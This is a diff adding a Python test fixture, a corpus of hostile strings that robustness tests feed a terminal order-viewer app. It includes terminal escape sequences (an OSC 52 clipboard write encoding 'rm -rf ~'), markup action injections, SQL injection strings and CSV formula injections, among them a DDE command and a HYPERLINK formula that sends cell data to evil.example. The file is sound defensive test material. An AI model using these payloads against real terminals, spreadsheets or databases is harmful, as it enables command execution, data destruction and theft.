@@ -1,0 +1,91 @@
+"""The shared corpus of hostile strings every robustness test feeds the app.
+
+Each entry is (name, text). Some carry control characters: the single-line schemas refuse those
+(``FieldErrors``), so tests that need them stored write them straight through the ORM, the way a
+value imported by another system would arrive. ``PRINTABLE`` are the ones a dialog accepts.
+"""
+
+from __future__ import annotations
+
+from orderview.safetext import has_unsafe
+
+LONG = ("0123456789" * 1000)  # 10,000 characters
+
+CORPUS: list[tuple[str, str]] = [
+    # markup
+    ("brackets", "ACME [Ltd] [/b] x"),
+    ("closing_tag", "[/]"),
+    ("bold_markup", "[bold red]loud[/bold red]"),
+    ("click_quit", "[@click=app.quit]"),
+    ("click_simulate", "[@click=app.simulate_key('D')]x[/]"),
+    ("click_screenshot", "[@click=app.screenshot('/tmp/owned.svg')]shot[/]"),
+    ("nested_brackets", "[[b]]x[[/b]] [link=file:///etc/passwd]y[/link]"),
+    # terminal escapes
+    ("csi_clear", "EVIL\x1b[2J\x1b[1;1HPWNED"),
+    ("csi_colour", "\x1b[31mred\x1b[0m"),
+    ("osc_title", "\x1b]0;pwned\x07"),
+    ("osc_clipboard", "\x1b]52;c;cm0gLXJmIH4K\x07"),
+    ("osc_st", "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\"),
+    ("bel", "ding\x07dong"),
+    ("backspace", "abc\x08\x08\x08XYZ"),
+    ("carriage_return", "safe\rEVIL"),
+    ("newline", "line1\nline2"),
+    ("tab", "a\tb"),
+    ("nul", "nul\x00byte"),
+    ("c1_csi", "c1\x9b2Jcsi"),
+    ("c1_osc", "\x9d0;pwned\x9c"),
+    ("del", "del\x7fete"),
+    # unicode tricks
+    ("bidi_override", "invoice\u202egnp.exe"),
+    ("bidi_isolate", "\u2067abc\u2069 \u200fmark"),
+    ("zero_width", "zero\u200bwidth\u200d\ufeffjoin"),
+    ("combining", "Zalgo Z\u0351\u0352\u0353a\u0300\u0301\u0302l\u0303g\u0304o\u0305"),
+    ("cjk_wide", "株式会社テスト漢字"),
+    ("emoji", "🦀🔥 family 👨\u200d👩\u200d👧 flag 🇩🇪"),
+    ("rtl", "שלום مرحبا"),
+    ("long", LONG),
+    # injection look-alikes
+    ("sql_drop", "'; DROP TABLE orders; --"),
+    ("sql_or", "x' OR '1'='1"),
+    ("sql_like", "100%_off\\"),
+    ("csv_hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("csv_plus", "+1"),
+    ("csv_minus", "-1"),
+    ("csv_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("csv_tab", "\t=1+1"),
+    ("csv_cr", "\r=1+1"),
+    ("csv_cmd", "=cmd|' /C calc'!A0"),
+    ("quotes", 'he said "hi", \'bye\''),
+]
+
+BY_NAME = dict(CORPUS)
+STRINGS = [text for _, text in CORPUS]
+PRINTABLE = [(n, t) for n, t in CORPUS if not has_unsafe(t)]
+UNSAFE = [(n, t) for n, t in CORPUS if has_unsafe(t)]
+FORMULA = [(n, t) for n, t in CORPUS if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+# What must never reach the terminal raw when it came from data.
+FORBIDDEN_OUTPUT: list[bytes] = [
+    b"]0;pwned",
+    b"]52;c;",
+    b"]8;;http://evil.example",
+    b"\x1b[2J\x1b[1;1HPWNED",
+    b"\x1b[31mred",
+    b"\x07dong",
+    b"\x08\x08\x08XYZ",
+    b"safe\rEVIL",
+    "\x9b2Jcsi".encode(),
+    b"\xc2\x9b",  # C1 CSI in UTF-8
+    b"\xc2\x9d",  # C1 OSC in UTF-8
+    b"del\x7fete",
+    b"nul\x00byte",
+]
+
+
+def fit(text: str, limit: int) -> str:
+    """The corpus string cut to a field's length limit (the long one especially)."""
+    return text[:limit]
+
+
+def ids() -> list[str]:
+    return [name for name, _ in CORPUS]
